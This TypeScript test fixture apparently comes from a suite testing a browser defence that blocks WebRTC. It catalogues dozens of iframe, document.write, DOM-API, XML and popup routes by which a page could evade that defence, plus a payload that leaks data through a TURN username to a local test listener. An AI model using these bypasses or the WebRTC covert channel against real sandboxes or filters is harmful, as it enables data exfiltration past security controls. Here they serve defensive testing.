// Ways in which a page may get a window with peer connections of its own, to carry words out in a TURN user name.

import type { BrowserName } from '../support/browser.ts'

/** One way; `html` stands in the page as it was published, `script` runs in it once it is there. */
export interface Escape {
  html?: string
  script?: string
  /** The browsers in which nothing but our defence is in its way. */
  leaks: readonly BrowserName[]
}

const both = ['chromium', 'firefox'] as const
const chromium = ['chromium'] as const
const firefox = ['firefox'] as const
const none = [] as const

/** Stands for the script that opens the peer connection; it holds no double quote, no angle bracket and no ampersand. */
const CODE = '{code}'
/** Stands for a document with that script, within an attribute in double quotes. */
const DOC = '&lt;script>{code}&lt;/script>'
const XHTML = 'http://www.w3.org/1999/xhtml'

/** In the stream of the page itself. */
export const parsed: Record<string, Escape> = {
  srcdoc: { html: `<iframe srcdoc="${DOC}"></iframe>`, leaks: both },
  'upper-case': { html: `<IFRAME SRCDOC="${DOC}"></IFRAME>`, leaks: both },
  slash: { html: `<iframe/srcdoc="${DOC}"></iframe>`, leaks: both },
  'form-feed': { html: `<iframe\fsrcdoc="${DOC}"></iframe>`, leaks: both },
  'line-end': { html: `<iframe\r\nsrcdoc="${DOC}"></iframe>`, leaks: both },
  'later-attribute': { html: `<iframe src="about:blank" title=">" srcdoc="${DOC}"></iframe>`, leaks: both },
  'equals-sign': { html: `<iframe =x srcdoc="${DOC}"></iframe>`, leaks: both },
  'value-for-ours': { html: `<iframe ="${DOC}"></iframe>`, leaks: none },
  unquoted: {
    html: `<iframe srcdoc=${DOC.replace(CODE, '{spaceless}').replace('>', '&gt;').replace('>', '&gt;')}></iframe>`,
    leaks: both,
  },
  unclosed: { html: `<div><iframe srcdoc="${DOC}"></div></iframe>`, leaks: both },
  'in-template': {
    html: `<template id=t><iframe srcdoc="${DOC}"></iframe></template><script>document.body.append(t.content.cloneNode(true))</script>`,
    leaks: both,
  },
  'in-shadow': {
    html: `<div><template shadowrootmode=open><iframe srcdoc="${DOC}"></iframe></template></div>`,
    leaks: both,
  },
  'in-svg': {
    html: `<svg><foreignObject><iframe srcdoc="${DOC}"></iframe></foreignObject></svg>`,
    leaks: both,
  },
  'in-noscript': {
    html: `<noscript id=n><iframe srcdoc="${DOC}"></iframe></noscript><script>document.body.append(new DOMParser().parseFromString(n.textContent, 'text/html').body.firstChild)</script>`,
    leaks: both,
  },
  nested: { html: `<iframe srcdoc="&lt;iframe srcdoc='{quoted}'>"></iframe>`, leaks: both },
  'script-address': { html: `<iframe src="javascript:${CODE}"></iframe>`, leaks: chromium },
  'object-data': { html: `<object data="data:text/html,${DOC}"></object>`, leaks: none },
  embed: { html: `<embed src="data:text/html,${DOC}">`, leaks: none },
  'data-address': { html: `<iframe src="data:text/html,${DOC}"></iframe>`, leaks: none },
  'fenced-frame': {
    html: `<fencedframe id=ff></fencedframe><script>ff.config = new FencedFrameConfig('data:text/html,x')</script>`,
    leaks: none,
  },
  'attribute-removed': {
    html: `<iframe id=again src="javascript:${CODE}"></iframe><script>setTimeout(() => { again.removeAttribute('srcdoc'); document.body.append(again) }, 300)</script>`,
    leaks: chromium,
  },
  'attribute-removed-of-clone': {
    html: `<template id=once><iframe src="javascript:${CODE}"></iframe></template><script>{ const f = once.content.firstChild.cloneNode(); f.removeAttribute('srcdoc'); document.body.append(f) }</script>`,
    leaks: chromium,
  },
}

/** By `document.write`, in pieces. */
export const written: Record<string, Escape> = {
  write: { script: 'document.write(frame)', leaks: both },
  'write-pieces': { script: "document.write('<ifr');document.write(frame.slice(4))", leaks: both },
  'write-sign': { script: "document.write('<');document.write(frame.slice(1))", leaks: both },
  'write-name': { script: "document.write('<iframe');document.write(frame.slice(7))", leaks: both },
  'write-upper': {
    script: "document.write('<IFRAM');document.write('E' + frame.slice(7))",
    leaks: both,
  },
  'write-letters': { script: 'for (const letter of frame) document.write(letter)', leaks: both },
  'write-arguments': { script: "document.write('<if', 'rame', frame.slice(7))", leaks: both },
  'write-nothing-between': {
    script: "document.write('<ifr');document.write('');document.write(frame.slice(4))",
    leaks: both,
  },
  writeln: { script: 'document.writeln(frame)', leaks: both },
  'writeln-name': { script: "document.writeln('<iframe');document.write(frame.slice(7))", leaks: both },
  'writeln-arguments': { script: "document.writeln('<if', 'rame', frame.slice(7))", leaks: both },
  'write-attribute': {
    script: "document.write('<iframe ');document.write(frame.slice(7))",
    leaks: both,
  },
  'write-write': {
    script: "document.write('<scr' + 'ipt>document.write(\"<ifr\")</scr' + 'ipt>' + frame.slice(4))",
    leaks: both,
  },
}

/** Completed by what follows in the stream. */
export const completed: Record<string, Escape> = {
  'completed-name': {
    html: `<script>document.write('<ifr')</script>ame srcdoc="${DOC}"></iframe>`,
    leaks: both,
  },
  'completed-sign': {
    html: `<script>document.write('<')</script>iframe srcdoc="${DOC}"></iframe>`,
    leaks: both,
  },
  'completed-tag': {
    html: `<script>document.write('<iframe')</script> srcdoc="${DOC}"></iframe>`,
    leaks: both,
  },
}

/** Through objects of the document, in the page as it stands. */
export const made: Record<string, Escape> = {
  setter: { script: 'const f = add(document.createElement("iframe")); f.srcdoc = doc', leaks: both },
  attribute: { script: 'make().setAttribute("srcdoc", doc)', leaks: both },
  'attribute-upper': { script: 'make().setAttribute("SRCDOC", doc)', leaks: both },
  'attribute-ns': { script: 'make().setAttributeNS(null, "srcdoc", doc)', leaks: both },
  'attribute-node': {
    script: 'const a = document.createAttribute("srcdoc"); a.value = doc; make().setAttributeNode(a)',
    leaks: both,
  },
  'attribute-map': {
    script: 'const a = document.createAttribute("srcdoc"); a.value = doc; make().attributes.setNamedItem(a)',
    leaks: both,
  },
  'attribute-value': {
    script: 'const f = make(); f.setAttribute("srcdoc", ""); f.attributes.srcdoc.value = doc',
    leaks: both,
  },
  'attribute-node-value': {
    script: 'const f = make(); f.setAttribute("srcdoc", ""); f.attributes.srcdoc.nodeValue = doc',
    leaks: both,
  },
  'attribute-text': {
    script: 'const f = make(); f.setAttribute("srcdoc", ""); f.attributes.srcdoc.textContent = doc',
    leaks: both,
  },
  'attribute-moved': {
    script:
      'const d = document.createElement("div"); d.setAttribute("srcdoc", doc); const a = d.attributes.srcdoc; d.removeAttributeNode(a); make().setAttributeNode(a)',
    leaks: both,
  },
  'before-insertion': {
    script: 'const f = document.createElement("iframe"); f.srcdoc = doc; add(f)',
    leaks: both,
  },
  'other-document': {
    script:
      'const f = document.implementation.createHTMLDocument("").createElement("iframe"); f.setAttribute("srcdoc", doc); add(f)',
    leaks: both,
  },
  'other-document-setter': {
    script:
      'const f = document.implementation.createHTMLDocument("").createElement("iframe"); f.srcdoc = doc; add(document.adoptNode(f))',
    leaks: both,
  },
  'other-document-markup': {
    script:
      'const d = document.implementation.createHTMLDocument(""); d.body.innerHTML = frame; add(d.body.firstChild)',
    leaks: both,
  },
  'other-document-written': {
    script:
      'const d = document.implementation.createHTMLDocument(""); d.open(); d.write("<ifr"); d.write(frame.slice(4)); add(d.querySelector("iframe"))',
    leaks: both,
  },
  'xml-document': {
    script: `const d = document.implementation.createDocument("${XHTML}", "html"); const f = d.createElementNS("${XHTML}", "iframe"); f.setAttribute("srcdoc", doc); add(f)`,
    leaks: both,
  },
  'frame-of-prefix': {
    script: `const f = document.createElementNS("${XHTML}", "x:iframe"); f.setAttribute("srcdoc", doc); add(f)`,
    leaks: both,
  },
  'cloned-node': {
    script: 'const f = document.createElement("iframe"); f.srcdoc = doc; add(f.cloneNode(true))',
    leaks: both,
  },
  'inner-html': { script: 'add(document.createElement("div")).innerHTML = frame', leaks: both },
  'outer-html': { script: 'add(document.createElement("div")).outerHTML = frame', leaks: both },
  'adjacent-html': { script: 'document.body.insertAdjacentHTML("beforeend", frame)', leaks: both },
  'html-unsafe': { script: 'add(document.createElement("div")).setHTMLUnsafe(frame)', leaks: both },
  'parse-unsafe': { script: 'add(Document.parseHTMLUnsafe(frame).querySelector("iframe"))', leaks: both },
  fragment: { script: 'add(document.createRange().createContextualFragment(frame))', leaks: both },
  parser: {
    script: 'add(new DOMParser().parseFromString(frame, "text/html").querySelector("iframe"))',
    leaks: both,
  },
  'shadow-html': {
    script: 'add(document.createElement("div")).attachShadow({ mode: "open" }).innerHTML = frame',
    leaks: both,
  },
  'shadow-unsafe': {
    script: 'add(document.createElement("div")).attachShadow({ mode: "open" }).setHTMLUnsafe(frame)',
    leaks: both,
  },
  'shadow-declared': {
    script:
      'add(document.createElement("div")).setHTMLUnsafe("<div><template shadowrootmode=open>" + frame + "</template></div>")',
    leaks: both,
  },
  'template-clone': {
    script:
      'const t = document.createElement("template"); t.innerHTML = frame; add(t.content.cloneNode(true))',
    leaks: both,
  },
  'template-import': {
    script:
      'const t = document.createElement("template"); t.innerHTML = frame; add(document.importNode(t.content, true))',
    leaks: both,
  },
  command: {
    script:
      'const d = add(document.createElement("div")); d.contentEditable = true; d.focus(); getSelection().selectAllChildren(d); document.execCommand("insertHTML", false, frame)',
    leaks: both,
  },
  animated: {
    script:
      'const f = make(); f.id = "animated"; add(document.createElement("div")).innerHTML = "<svg><set href=#animated attributeName=srcdoc></set></svg>"; document.querySelector("set").setAttribute("to", doc)',
    leaks: none,
  },
  'xml-prefix': {
    script: `add(document.importNode(new DOMParser().parseFromString(\`<x:iframe xmlns:x="${XHTML}" srcdoc="\${escaped}"/>\`, "text/xml").documentElement, true))`,
    leaks: both,
  },
  'xml-default': {
    script: `add(document.importNode(new DOMParser().parseFromString(\`<iframe xmlns="${XHTML}" srcdoc="\${escaped}"/>\`, "application/xhtml+xml").documentElement, true))`,
    leaks: both,
  },
  'xml-letters': {
    script: `add(document.importNode(new DOMParser().parseFromString(\`<é-ö.1:iframe xmlns:é-ö.1="${XHTML}" srcdoc="\${escaped}"/>\`, "text/xml").documentElement, true))`,
    leaks: both,
  },
  'xml-svg': {
    script: `add(document.importNode(new DOMParser().parseFromString(\`<svg xmlns="http://www.w3.org/2000/svg"><foreignObject><iframe xmlns="${XHTML}" srcdoc="\${escaped}"/></foreignObject></svg>\`, "image/svg+xml").documentElement, true))`,
    leaks: both,
  },
  'xml-entity': {
    script: `add(document.importNode(new DOMParser().parseFromString(\`<!DOCTYPE d [<!ENTITY e '<&#105;frame xmlns="${XHTML}" srcdoc="\${twice}"/>'>]><d>&e;</d>\`, "text/xml").documentElement.firstChild, true))`,
    leaks: both,
  },
  'xml-default-attribute': {
    script: `add(document.importNode(new DOMParser().parseFromString(\`<!DOCTYPE iframe [<!ATTLIST iframe srcdoc CDATA "\${escaped}">]><iframe xmlns="${XHTML}"/>\`, "text/xml").documentElement, true))`,
    leaks: both,
  },
  'xml-inner': {
    script: `const d = document.implementation.createDocument("${XHTML}", "html"); d.documentElement.innerHTML = \`<iframe srcdoc="\${escaped}"/>\`; add(d.documentElement.firstChild)`,
    leaks: both,
  },
  'xml-inner-prefix': {
    script: `const d = document.implementation.createDocument("${XHTML}", "x:html"); d.documentElement.innerHTML = \`<x:iframe srcdoc="\${escaped}"/>\`; add(d.documentElement.firstChild)`,
    leaks: chromium,
  },
  stylesheet: {
    script: `const p = new XSLTProcessor(); p.importStylesheet(new DOMParser().parseFromString(\`<t:stylesheet version="1.0" xmlns:t="http://www.w3.org/1999/XSL/Transform"><t:template match="/"><t:element name="iframe" namespace="${XHTML}"><t:attribute name="srcdoc">\${escaped}</t:attribute></t:element></t:template></t:stylesheet>\`, "text/xml")); add(p.transformToFragment(document, document))`,
    leaks: firefox,
  },
  'script-address-attribute': { script: 'const f = make(); f.src = "javascript:" + code', leaks: none },
  'script-address-before': {
    script: 'const f = document.createElement("iframe"); f.src = "javascript:" + code; add(f)',
    leaks: chromium,
  },
  'script-address-spaced': {
    script: 'const f = document.createElement("iframe"); f.src = " java\\nscript:" + code; add(f)',
    leaks: chromium,
  },
  'frame-of-set': {
    script:
      'const s = document.createElement("frameset"); const f = document.createElement("frame"); f.src = "javascript:" + code; s.append(f); add(s)',
    leaks: chromium,
  },
  'open-named': {
    script: 'const f = make(); f.name = "named"; open("javascript:" + code, "named")',
    leaks: none,
  },
  'location-of-frame': { script: 'make().contentWindow.location = "javascript:" + code', leaks: none },
  'link-named': {
    script:
      'const f = make(); f.name = "linked"; const a = add(document.createElement("a")); a.target = "linked"; a.href = "javascript:" + code; a.click()',
    leaks: both,
  },
  'form-named': {
    script:
      'const f = make(); f.name = "formed"; const a = add(document.createElement("form")); a.target = "formed"; a.action = "javascript:" + code; a.submit()',
    leaks: none,
  },
  blob: {
    script: 'make().src = URL.createObjectURL(new Blob([doc], { type: "text/html" }))',
    leaks: none,
  },
  'own-window': { script: '(0, eval)(code)', leaks: both },
  'frame-window': { script: 'const w = make().contentWindow; new w.RTCPeerConnection()', leaks: none },
}

/** After a click on the element of its name. None leaks where the shell sends `Cross-Origin-Opener-Policy`, but each would open a window. */
export const clicked: Record<string, Escape> = {
  'open-nothing': { html: button('const w = open(); w.document.write(doc)'), leaks: none },
  'open-blank': { html: button("const w = open('about:blank'); w.document.write(doc)"), leaks: none },
  'open-name': { html: button("const w = open('', 'n'); w.document.write(doc)"), leaks: none },
  'open-window': { html: button('const w = open(); w.eval(code)'), leaks: none },
  'document-open': {
    html: button("const w = document.open('about:blank', '', ''); w.document.write(doc)"),
    leaks: none,
  },
  'open-script': { html: button("open('javascript:' + code)"), leaks: none },
  'link-script': {
    html: `<a id={name} target=_blank rel=opener href="javascript:${CODE}">{name}</a>`,
    leaks: none,
  },
}

/** Those that open a window on a page without the defence; an open page answers the others itself. */
export const openingAWindow: readonly string[] = ['open-script']

/** A button that does this, with the words of the other scripts. */
function button(script: string): string {
  return `<button id={name}>{name}</button><script>document.getElementById('{name}').onclick = () => { {words}\n${script} }</script>`
}

/** A piece ends after so much of the tag of a frame. */
const cuts = { 'cut-sign': '<', 'cut-start': '<ifr', 'cut-name': '<iframe' }

export const cutNames = Object.keys(cuts)

/** A page of which each piece of 64 KB ends within the tag of a frame; at its end are the ways of `clicked`. */
export function cutPage(port: number): string {
  let page = '<!doctype html><title>-</title><body>'
  for (const [name, tag] of Object.entries(cuts)) {
    const filled = (page.length + '<!---->'.length + tag.length) % 65_536
    page += `<!--${'x'.repeat(65_536 - filled)}--><iframe srcdoc="${DOC.replace(CODE, leakCode(name, port))}"></iframe>`
  }
  return page + partsOf(clicked, port)
}

/** Stands in an attribute of single quotes, within one of double quotes. */
const quoted = (code: string): string => `&amp;lt;script>${code.replaceAll("'", '&amp;#39;')}&amp;lt;/script>`

/** The script that opens a peer connection to the listener, whose user name is `name`. */
export const leakCode = (name: string, port: number): string =>
  `(function(p){p.createDataChannel('d');p.createOffer().then(function(o){p.setLocalDescription(o)})})(new RTCPeerConnection({iceServers:[{urls:['turn:127.0.0.1:${port}','turn:127.0.0.1:${port}?transport=tcp'],username:'${name}',credential:'c'}]}))`

/** A text in a script, with the value of `name` where it says `{name}`. */
const named = (text: string): string => JSON.stringify(text).replaceAll('{name}', '" + name + "')

/** Shared by the scripts of the escapes; `wordsOf(name)` makes the texts that carry that name. */
const helpers = (code: string): string => `<script>
  let tried = 0
  const add = element => { document.body.append(element); return element }
  const make = () => add(document.createElement('iframe'))
  function wordsOf(name) {
    const code = ${named(code)}
    const doc = '<scr' + 'ipt>' + code + '</scr' + 'ipt>'
    const escaped = '&lt;script>' + code + '&lt;/script>'
    const twice = ${named(`&#38;lt;script>${code.replaceAll("'", '&#38;#39;')}&#38;lt;/script>`)}
    const frame = '<ifr' + 'ame srcdoc="' + escaped + '"></ifr' + 'ame>'
    return { code, doc, escaped, twice, frame }
  }
</script>`
const words = "const { code, doc, escaped, twice, frame } = wordsOf('{name}');"

/** Says to the window above, again and again, that the page has come to its end, and how many scripts it came by. */
const END = `<p id=end>end</p><script>setInterval(() => parent.postMessage('ended ' + tried, '*'), 200)</script>`

/** The number that a page of these says at its end. */
export const scriptsOf = (escapes: Record<string, Escape>): number =>
  Object.values(escapes).filter(({ script }) => script).length

/** Tries them all; each carries its own name out. */
function partsOf(escapes: Record<string, Escape>, port: number): string {
  const parts = Object.entries(escapes).map(([name, { html, script }]) => {
    const code = leakCode(name, port)
    return (
      html ??
      `<script>tried++; try { {words}\n${script}\n} catch (error) { console.log('{name}: ' + error) }</script>`
    )
      .replaceAll('{words}', words)
      .replaceAll('{quoted}', quoted(code))
      .replaceAll('{spaceless}', code.replaceAll(' ', '&#32;'))
      .replaceAll('{code}', code)
      .replaceAll('{name}', name)
  })
  return [helpers(leakCode('{name}', port)), ...parts, END].join('\n')
}

/** A page that tries them all, in more than one piece. */
export function pageOf(escapes: Record<string, Escape>, port: number, before = ''): string {
  const filling = `<!--${'x'.repeat(65_536)}-->`
  return `<!doctype html><meta charset=utf-8><title>-</title>${before}<body>\n${filling}${partsOf(escapes, port)}`
}
